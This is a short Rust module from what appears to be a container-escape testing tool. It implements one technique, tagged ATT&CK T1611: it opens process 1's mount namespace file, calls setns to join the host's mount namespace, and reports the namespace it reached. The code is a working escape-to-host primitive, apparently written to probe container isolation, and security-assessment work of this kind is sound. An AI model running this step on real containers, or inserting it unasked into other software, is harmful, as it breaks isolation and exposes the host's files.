//! Joins the mount namespace of process 1: the node's, where the container shares its processes.
//!
//! Source: setns(2), nsenter(1).

use std::os::fd::AsRawFd as _;

use crate::{Stop, Technique, sys::call};

pub(crate) const THIS: Technique = Technique {
    source: "setns(2), ATT&CK T1611",
    tries: "setns to the mount namespace of process 1",
    attempt,
    alone: false,
};

fn attempt() -> Result<String, Stop> {
    let path = "/proc/1/ns/mnt";
    let namespace = std::fs::File::open(path).map_err(Stop::at(path))?;
    let (fd, kind) = (i64::from(namespace.as_raw_fd()), i64::from(libc::CLONE_NEWNS));
    call("setns", libc::SYS_setns, [fd, kind, 0, 0, 0, 0])?;
    let found = std::fs::read_link("/proc/self/ns/mnt").map_err(Stop::at("/proc/self/ns/mnt"))?;
    Ok(format!("in {}", found.display()))
}
